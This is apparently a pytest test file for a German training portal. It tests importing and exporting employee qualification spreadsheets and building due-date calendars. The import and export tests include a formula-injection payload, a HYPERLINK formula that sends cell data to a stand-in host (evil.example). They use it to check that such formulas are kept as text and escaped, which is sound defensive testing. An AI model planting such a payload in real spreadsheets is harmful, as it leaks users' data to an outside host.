"""The qualification matrix's import/export layer (wbportal.qualifications.spreadsheet and
.calendar) and the spreadsheet-safe CSV cells (wbportal.csvsafe), without database or web.

The import files in tests/fixtures/qualifications/import/ are written like a Kümmerer's own sheets:
a UTF-8-with-BOM long list from Excel, an ISO-8859-1 wide matrix with title rows and umlauts, a sheet
with broken rows, a comma-separated one. The expected values below were written by reading those
files, not by running the reader."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta, timezone
from pathlib import Path

import pytest
from icalendar import Calendar

from wbportal.csvsafe import spreadsheet_cell, unescape_cell
from wbportal.qualifications.calendar import due_calendar, short_name
from wbportal.qualifications.model import Holding, Person, Qualification
from wbportal.qualifications.spreadsheet import CellError, ImportRow, parse_date, read_matrix_csv, write_matrix_csv

IMPORT = Path(__file__).parent / "fixtures" / "qualifications" / "import"

QUALIFICATIONS = {q.id: q for q in (
    Qualification("unterweisung", "Allgemeine Sicherheitsunterweisung", "§ 12 ArbSchG", validity_months=12, lead_days=30),
    Qualification("ersthelfer", "Betrieblicher Ersthelfer", "§ 26 DGUV Vorschrift 1", validity_months=24),
    Qualification("stapler", "Gabelstaplerfahrer", "DGUV Vorschrift 68", validity_months=12, lead_days=45),
    Qualification("brandschutzhelfer", "Brandschutzhelfer", "ASR A2.2", validity_months=36, lead_days=90),
    Qualification("schweisser", "Schweißer DIN EN ISO 9606-1", "DIN EN ISO 9606-1", validity_months=24),
    Qualification("c3", "CNC-Fräse Hermle", own=True),
)}


def read(name: str):
    return read_matrix_csv((IMPORT / name).read_bytes(), QUALIFICATIONS)


def held(preview) -> list[tuple]:
    return [(r.line, r.name, r.job, r.qualification, r.acquired, r.valid_until) for r in preview.rows]


# -- import: the fixture sheets --------------------------------------------------------------------

def test_long_sheet_in_utf8_with_bom():
    preview = read("long_utf8_bom.csv")
    assert (preview.encoding, preview.layout, preview.delimiter, preview.header_line) == ("utf-8-sig", "long", ";", 1)
    assert preview.errors == []
    assert held(preview) == [
        (2, "Müller, Anna", "Schlosserin", "ersthelfer", date(2024, 3, 14), date(2026, 3, 14)),   # alias "Erste Hilfe"
        (3, "Müller, Anna", "Schlosserin", "unterweisung", date(2025, 1, 8), None),               # label word
        (4, "Jörg Schönherr", "Staplerfahrer", "stapler", date(2019, 9, 2), None),               # "2.9.2019"
        (5, "Jörg Schönherr", "Staplerfahrer", "unterweisung", date(2025, 1, 8), None),          # ISO date, job from line 4
        (6, "Jörg Schönherr", "Staplerfahrer", "ersthelfer", None, None),                        # held, no dates
        (8, "Sören Weißbach", "Schweißer", "schweisser", date(2023, 11, 15), date(2026, 11, 15)),  # "15.11.23"
    ]
    assert [(p.name, p.job) for p in preview.people] == [
        ("Müller, Anna", "Schlosserin"), ("Jörg Schönherr", "Staplerfahrer"),
        ("Sören Weißbach", "Schweißer"), ("Lehrling Paul", "Auszubildender")]  # line 9: a person without holdings
    assert preview.ignored_columns == ["Bemerkung"]
    assert preview.unknown_qualifications == []


def test_wide_sheet_in_latin1_with_title_rows():
    data = (IMPORT / "wide_latin1.csv").read_bytes()
    assert "Günther".encode("latin-1") in data and "Günther".encode("utf-8") not in data  # really latin-1
    preview = read_matrix_csv(data, QUALIFICATIONS)
    assert (preview.encoding, preview.layout, preview.header_line) == ("cp1252", "wide", 4)
    assert [(p.name, p.job) for p in preview.people] == [
        ("Jürgen Günther", "Meister"), ("Kätlin Weiß", "Schweißerin"), ("Ulf Böhme", "Lagerist")]
    assert held(preview) == [
        (5, "Jürgen Günther", "Meister", "ersthelfer", date(2024, 5, 12), None),
        (5, "Jürgen Günther", "Meister", "brandschutzhelfer", date(2022, 9, 3), None),
        (5, "Jürgen Günther", "Meister", "unterweisung", date(2025, 1, 8), None),
        (6, "Kätlin Weiß", "Schweißerin", "brandschutzhelfer", None, None),                      # "x"
        (6, "Kätlin Weiß", "Schweißerin", "unterweisung", date(2025, 1, 8), None),
        (7, "Ulf Böhme", "Lagerist", "stapler", date(2025, 10, 1), None),                        # "-": not held
        (7, "Ulf Böhme", "Lagerist", "unterweisung", date(2025, 1, 8), None),
    ]
    # the column "Motorsäge" is no known qualification: Günther's "x" in it is an error, and the UI
    # may offer to create it as the company's own qualification
    assert [e.reason for e in preview.errors] == ["Zeile 5: Qualifikation „Motorsäge“ ist unbekannt"]
    assert [(u.text, u.lines) for u in preview.unknown_qualifications] == [("Motorsäge", (4,))]
    assert preview.ignored_columns == ["Bemerkung"]


def test_broken_rows_are_errors_with_line_and_german_reason():
    preview = read("broken_rows.csv")
    assert (preview.encoding, preview.layout) == ("utf-8", "long")
    assert [e.reason for e in preview.errors] == [
        "Zeile 3: Datum „31.02.2026“ gibt es nicht (erwartet TT.MM.JJJJ)",
        "Zeile 4: Qualifikation „Kettensäge“ ist unbekannt",
        "Zeile 5: Name fehlt",
        "Zeile 6: Tätigkeit ist zu lang (136 Zeichen, höchstens 120)",
        "Zeile 8: Datum „März 2025“ ist nicht lesbar (erwartet TT.MM.JJJJ)",
        "Zeile 9: „Anna Schubert“ hat „Ersthelfer“ schon in Zeile 2",
    ]
    assert [e.line for e in preview.errors] == [3, 4, 5, 6, 8, 9]
    errors = {e.line: e for e in preview.errors}
    assert errors[3].cells == ("Tom Lehmann", "Monteur", "Ersthelfer", "31.02.2026")
    assert errors[8].cells[0] == "  +49 Peter  "                     # raw, as in the file
    assert errors[6].cells[1].endswith("…") and len(errors[6].cells[1]) == 40  # shortened
    assert [(u.text, u.lines) for u in preview.unknown_qualifications] == [("Kettensäge", (4,))]
    # the formula-looking name and job are data, kept as text
    formula = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
    assert held(preview) == [
        (2, "Anna Schubert", "Büro", "ersthelfer", date(2024, 10, 10), date(2026, 10, 10)),
        (7, formula, "@SUM(A1:A9)", "unterweisung", date(2025, 1, 8), None),
        (10, "Rico Fiedler", "Monteur", "unterweisung", date(2025, 1, 8), None),
    ]
    assert [p.name for p in preview.people] == ["Anna Schubert", formula, "Rico Fiedler"]
    assert preview.file_error is None


def test_comma_separated_sheet_with_iso_dates():
    preview = read("comma_iso.csv")
    assert (preview.delimiter, preview.encoding, preview.layout) == (",", "utf-8", "long")
    assert held(preview) == [(2, "Roth, Maria", "", "ersthelfer", date(2024, 2, 29), None),
                             (3, "Lutz Kaden", "", "brandschutzhelfer", date(2023, 6, 30), None)]


@pytest.mark.parametrize("data, reason", [
    (b"", "Die Datei ist leer."),
    (b"\xef\xbb\xbf", "Die Datei ist leer."),
    (b";;;\r\n;;;\r\n", "Die Datei ist leer."),
    ("Name;Tätigkeit;Qualifikation;erworben am\r\n;;;\r\n".encode("utf-8-sig"),
     "Die Datei enthält nur die Kopfzeile, keine Einträge."),
    (bytes(range(256)) * 8, "Die Datei ist keine CSV-Tabelle (sie enthält Binärdaten)."),
    (bytes(range(1, 256)) * 8, "Die Datei ist keine CSV-Tabelle (sie enthält Binärdaten)."),  # no NUL byte
    (b"PK\x03\x04\x14\x00\x06\x00" + b"\x00" * 64, "Das ist eine Excel-Arbeitsmappe"),
    (b"Liebe Kollegen,\r\nanbei die Liste.\r\n", "Keine Kopfzeile erkannt"),
])
def test_a_file_that_cannot_be_read_gives_one_clear_error(data, reason):
    preview = read_matrix_csv(data, QUALIFICATIONS)
    assert preview.rows == [] and preview.people == []
    assert len(preview.errors) == 1 and preview.errors[0].line == 0
    assert preview.file_error.startswith(reason)


def test_utf16_from_excel_unicode_text_export():
    text = "Name\tQualifikation\tgültig bis\r\nÄnne Groß\tBrandschutzhelfer\t01.04.2027\r\n"
    preview = read_matrix_csv(text.encode("utf-16"), QUALIFICATIONS)
    assert (preview.encoding, preview.delimiter) == ("utf-16", "\t")
    assert held(preview) == [(2, "Änne Groß", "", "brandschutzhelfer", None, date(2027, 4, 1))]


# -- import: cells, dates, qualifications ---------------------------------------------------------

@pytest.mark.parametrize("text, expected", [
    ("01.03.2024", date(2024, 3, 1)), ("1.3.2024", date(2024, 3, 1)), ("29.02.2024", date(2024, 2, 29)),
    ("2024-03-01", date(2024, 3, 1)), ("01.03.2024 00:00", date(2024, 3, 1)), ("01.03.24", date(2024, 3, 1)),
    ("01.03.68", date(2068, 3, 1)), ("01.03.98", date(1998, 3, 1)), ("", None), ("  ", None),
])
def test_dates(text, expected):
    assert parse_date(text) == expected


@pytest.mark.parametrize("text, words", [
    ("31.02.2026", "gibt es nicht"), ("29.02.2025", "gibt es nicht"), ("01.13.2024", "gibt es nicht"),
    ("2024-02-30", "gibt es nicht"), ("00.01.2024", "gibt es nicht"), ("03/2027", "nicht lesbar"),
    ("1.3.", "nicht lesbar"), ("45352", "nicht lesbar"), ("01.01.1900", "unplausibel"),
])
def test_impossible_or_unreadable_dates(text, words):
    with pytest.raises(CellError, match=words):
        parse_date(text)


def rows_of(*lines: str, qualifications=QUALIFICATIONS):
    return read_matrix_csv("\r\n".join(("Name;Qualifikation;erworben am",) + lines).encode(), qualifications)


@pytest.mark.parametrize("cell, qid", [
    ("ersthelfer", "ersthelfer"), ("Betrieblicher Ersthelfer", "ersthelfer"), ("  BETRIEBLICHER   ersthelfer ", "ersthelfer"),
    ("Ersthelfer", "ersthelfer"), ("Erste Hilfe", "ersthelfer"), ("Erste-Hilfe", "ersthelfer"),
    ("Schweisser DIN EN ISO 9606-1", "schweisser"), ("Schweißer ISO 9606-1", "schweisser"),
    ("Gabelstapler", "stapler"), ("Staplerschein", "stapler"), ("cnc fräse hermle", "c3"), ("c3", "c3"),
    ("Sicherheitsunterweisung", "unterweisung"), ("Brandschutz", "brandschutzhelfer"),
])
def test_qualifications_by_id_label_alias_or_unambiguous_words(cell, qid):
    preview = rows_of(f"Anna;{cell};01.01.2025")
    assert preview.errors == [] and [r.qualification for r in preview.rows] == [qid]


def test_ambiguous_words_are_an_error_not_a_guess():
    qualifications = dict(QUALIFICATIONS, c4=Qualification("c4", "Sicherheitsunterweisung Kran", own=True))
    preview = rows_of("Anna;Sicherheitsunterweisung;01.01.2025", qualifications=qualifications)
    assert preview.rows == [] and preview.unknown_qualifications == []
    assert preview.errors[0].reason == ("Zeile 2: Qualifikation „Sicherheitsunterweisung“ ist mehrdeutig (passt zu "
                                        "„Allgemeine Sicherheitsunterweisung“, „Sicherheitsunterweisung Kran“)")


# the shipped catalogue's pattern (not the catalogue itself): a licence and its yearly instruction,
# a general instruction next to a special one, labels with a part in parentheses
PAIRS = {q.id: q for q in (
    Qualification("u_allg", "Sicherheitsunterweisung (allgemein)", validity_months=12),
    Qualification("u_jugend", "Sicherheitsunterweisung Jugendliche (unter 18)", validity_months=6),
    Qualification("stapler_ausweis", "Staplerfahrer-Ausbildung (Fahrausweis)"),
    Qualification("stapler_unterw", "Staplerfahrer: jährliche Unterweisung", validity_months=12),
    Qualification("kran_unterw", "Kranführer: jährliche Unterweisung", validity_months=12),
)}


@pytest.mark.parametrize("cell, qid", [
    ("Sicherheitsunterweisung", "u_allg"), ("Unterweisung", "u_allg"), ("Arbeitsschutzunterweisung", "u_allg"),
    ("Unterweisung Jugendliche", "u_jugend"), ("Stapler", "stapler_ausweis"), ("Staplerschein", "stapler_ausweis"),
    ("Stapler Unterweisung", "stapler_unterw"), ("Staplerfahrer-Ausbildung", "stapler_ausweis"),
])
def test_licence_or_instruction_and_labels_without_parentheses(cell, qid):
    preview = rows_of(f"Anna;{cell};01.01.2025", qualifications=PAIRS)
    assert preview.errors == [] and [r.qualification for r in preview.rows] == [qid]


def test_still_ambiguous_without_a_single_licence():
    preview = rows_of("Anna;Unterweisung jährlich;01.01.2025", qualifications=PAIRS)
    assert preview.rows == []
    assert preview.errors[0].reason == ("Zeile 2: Qualifikation „Unterweisung jährlich“ ist mehrdeutig (passt zu "
                                        "„Kranführer: jährliche Unterweisung“, „Staplerfahrer: jährliche Unterweisung“)")


def test_hostile_cells():
    preview = rows_of("  =1+1  ;Ersthelfer;01.01.2025",                 # kept as text, stripped
                      "'+49 170;Ersthelfer;01.01.2025",                 # our own escape is undone
                      "x" * 121 + ";Ersthelfer;01.01.2025",
                      "Anna;" + "Q" * 121 + ";01.01.2025",
                      "Bob\x07;Ersthelfer;01.01.2025",
                      "x" * 120 + ";Ersthelfer;01.01.2025")
    assert [r.name for r in preview.rows] == ["=1+1", "+49 170", "x" * 120]
    assert [e.reason for e in preview.errors] == [
        "Zeile 4: Name ist zu lang (121 Zeichen, höchstens 120)",
        "Zeile 5: Qualifikation ist zu lang (121 Zeichen, höchstens 120)",
        "Zeile 6: Name enthält Steuerzeichen"]


def test_conflicting_jobs_and_valid_until_before_acquired():
    preview = read_matrix_csv("Name;Funktion;Qualifikation;erworben;Ablauf\r\n"
                              "Anna;Schlosserin;Ersthelfer;01.01.2025;01.01.2027\r\n"
                              "anna ;Köchin;Stapler;01.01.2025;\r\n"
                              "Bob;;Stapler;01.02.2025;01.01.2025\r\n".encode(), QUALIFICATIONS)
    assert [e.reason for e in preview.errors] == [
        "Zeile 3: „Anna“ hat in Zeile 2 die Tätigkeit „Schlosserin“, hier „Köchin“",
        "Zeile 4: „gültig bis“ liegt vor „erworben am“"]


def test_first_and_last_name_columns_and_date_headers_ending_in_am():
    preview = read_matrix_csv("Vorname;Nachname;Unterweisung;Unterweisung am\r\nAnna;Berger;Stapler;3.4.2025\r\n".encode(),
                              QUALIFICATIONS)
    assert held(preview) == [(2, "Anna Berger", "", "stapler", date(2025, 4, 3), None)]


def test_import_row_and_person_become_model_objects():
    row = ImportRow(2, "Anna", "Köchin", "ersthelfer", date(2025, 1, 1), None)
    assert row.holding(7) == Holding(None, 7, "ersthelfer", date(2025, 1, 1), None)
    preview = rows_of("Anna;Ersthelfer;")
    assert preview.people[0].person(5) == Person(None, 5, "Anna", "")


# -- export -----------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1;"Klick")'
PEOPLE = [Person(1, 9, "Müller, Anna", "Schlosserin"), Person(2, 9, FORMULA, "@SUM(A1)"),
          Person(3, 9, "Lehrling Paul", "Auszubildender"), Person(4, 9, "Jörg Schönherr", "-Lager-")]
HOLDINGS = [Holding(10, 1, "ersthelfer", date(2024, 3, 14), date(2026, 3, 14)),
            Holding(11, 1, "unterweisung", date(2025, 1, 8), date(2026, 1, 8)),
            Holding(12, 2, "stapler", None, date(2026, 6, 30)),
            Holding(13, 4, "c3", date(2019, 9, 2), None),
            Holding(14, 99, "stapler", date(2025, 1, 1), None)]  # a person not exported


def test_export_is_german_excel_csv_with_neutralised_formulas():
    text = write_matrix_csv(PEOPLE, HOLDINGS, QUALIFICATIONS)
    assert text.startswith("\ufeffName;Tätigkeit;Qualifikation;erworben am;gültig bis\r\n")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows[1:] == [
        ["Müller, Anna", "Schlosserin", "Allgemeine Sicherheitsunterweisung", "08.01.2025", "08.01.2026"],
        ["Müller, Anna", "Schlosserin", "Betrieblicher Ersthelfer", "14.03.2024", "14.03.2026"],
        ["'" + FORMULA, "'@SUM(A1)", "Gabelstaplerfahrer", "", "30.06.2026"],
        ["Lehrling Paul", "Auszubildender", "", "", ""],
        ["Jörg Schönherr", "'-Lager-", "CNC-Fräse Hermle", "02.09.2019", ""],
    ]


def test_export_reads_back_to_the_same_data():
    text = write_matrix_csv(PEOPLE, HOLDINGS, QUALIFICATIONS)
    preview = read_matrix_csv(text.encode("utf-8"), QUALIFICATIONS)
    assert preview.errors == [] and preview.encoding == "utf-8-sig"
    assert [(p.name, p.job) for p in preview.people] == [(p.name, p.job) for p in PEOPLE]
    names = {p.id: p.name for p in PEOPLE}
    assert sorted((r.name, r.qualification, r.acquired, r.valid_until) for r in preview.rows) == sorted(
        (names[h.staff_id], h.qualification, h.acquired, h.valid_until) for h in HOLDINGS if h.staff_id in names)


# -- csvsafe ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+49", "'+49"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("Anna", "Anna"), ("", ""), (None, ""), (3, 3), ("a=b", "a=b"), (" ", ""), ("\t", ""),
])
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell
    if isinstance(value, str) and value.strip():  # blank text is written as an empty cell
        assert unescape_cell(spreadsheet_cell(value)) == value


def test_core_keeps_the_csv_helper_and_webui_uses_it():
    import webui.admin
    import webui.api
    from wbportal.csvsafe import excel_csv
    assert webui.api.excel_csv is excel_csv and webui.admin.excel_csv is excel_csv


# -- calendar ---------------------------------------------------------------------------------------

CAL_PEOPLE = [Person(1, 9, "Anna Müller", "Schlosserin"), Person(2, 9, "Jörg Schönherr", "Lager"),
              Person(3, 9, "Gone Person", "", archived=True), Person(4, 9, "Pseudo", "")]
CAL_HOLDINGS = [
    Holding(20, 1, "ersthelfer", date(2024, 3, 14), date(2026, 3, 14)),
    Holding(21, 2, "stapler", date(2025, 1, 31), None),          # computed: + 12 months
    Holding(22, 2, "c3", date(2019, 9, 2), None),                 # does not expire
    Holding(23, 3, "ersthelfer", date(2024, 1, 1), date(2026, 1, 1)),  # archived person
    Holding(24, 1, "gone", date(2024, 1, 1), date(2026, 1, 1)),   # unknown qualification
    Holding(25, 4, "unterweisung", None, date(2025, 12, 1)),     # already expired: still due
    Holding(26, 4, "brandschutzhelfer", None, None),              # no dates at all
    Holding(27, 1, "c3", None, date(2027, 5, 1)),                 # no expiry, but the firm entered a date
]


def events_of(ics: bytes):
    cal = Calendar.from_ical(ics)
    return cal, {str(e["uid"]): e for e in cal.walk("VEVENT")}


def test_due_calendar_events_dates_and_alarms():
    ics = due_calendar("Metallbau Schubert GmbH", CAL_PEOPLE, CAL_HOLDINGS, QUALIFICATIONS,
                       base_url="https://portal.example/qualifikationen",
                       now=datetime(2026, 1, 5, 8, 0, tzinfo=timezone.utc))
    cal, events = events_of(ics)
    assert str(cal["prodid"]) == "-//Weiterbildungsportal Erzgebirge//Qualifikationen//DE"
    assert str(cal["x-wr-calname"]) == "Fällige Qualifikationen – Metallbau Schubert GmbH"
    assert len(events) == 4
    got = {uid: (e.decoded("dtstart"), e.decoded("dtend"), str(e["summary"]),
                 [a.decoded("trigger") for a in e.walk("VALARM")]) for uid, e in events.items()}
    assert got == {
        "qualification-1-ersthelfer@weiterbildungsportal-erzgebirge":
            (date(2026, 3, 14), date(2026, 3, 15), "Betrieblicher Ersthelfer fällig: Anna M.", [timedelta(days=-60)]),
        "qualification-2-stapler@weiterbildungsportal-erzgebirge":
            (date(2026, 1, 31), date(2026, 2, 1), "Gabelstaplerfahrer fällig: Jörg S.", [timedelta(days=-45)]),
        "qualification-4-unterweisung@weiterbildungsportal-erzgebirge":
            (date(2025, 12, 1), date(2025, 12, 2), "Allgemeine Sicherheitsunterweisung fällig: Pseudo",
             [timedelta(days=-30)]),
        "qualification-1-c3@weiterbildungsportal-erzgebirge":
            (date(2027, 5, 1), date(2027, 5, 2), "CNC-Fräse Hermle fällig: Anna M.", [timedelta(days=-60)]),
    }
    for e in events.values():
        assert type(e.decoded("dtstart")) is date          # all-day, not a datetime
        assert e.decoded("dtstamp") == datetime(2026, 1, 5, 8, 0, tzinfo=timezone.utc)
        assert str(e["url"]) == "https://portal.example/qualifikationen"
        assert [str(a["action"]) for a in e.walk("VALARM")] == ["DISPLAY"]
    assert b"M\xc3\xbcller" not in ics and b"Sch\xc3\xb6nherr" not in ics  # surnames stay in the portal


def test_due_calendar_uids_are_stable_across_calls_and_renewals():
    first = events_of(due_calendar("F", CAL_PEOPLE, CAL_HOLDINGS, QUALIFICATIONS, base_url="https://p/"))[1]
    renewed = [Holding(h.id + 100, h.staff_id, h.qualification, h.acquired,
                       h.valid_until and h.valid_until + timedelta(days=730)) for h in CAL_HOLDINGS]
    second = events_of(due_calendar("F", CAL_PEOPLE, renewed, QUALIFICATIONS, base_url="https://p/"))[1]
    assert set(first) == set(second) and len(first) == 4
    assert second["qualification-1-ersthelfer@weiterbildungsportal-erzgebirge"].decoded("dtstart") == date(2028, 3, 13)


def test_short_name():
    assert [short_name(n) for n in ("Anna Müller", "Anna Maria Müller", "Pseudo", " Jörg  Schönherr ",
                                    "Müller, Anna", "Schönherr,Jörg")] == [
        "Anna M.", "Anna Maria M.", "Pseudo", "Jörg S.", "Anna M.", "Jörg S."]
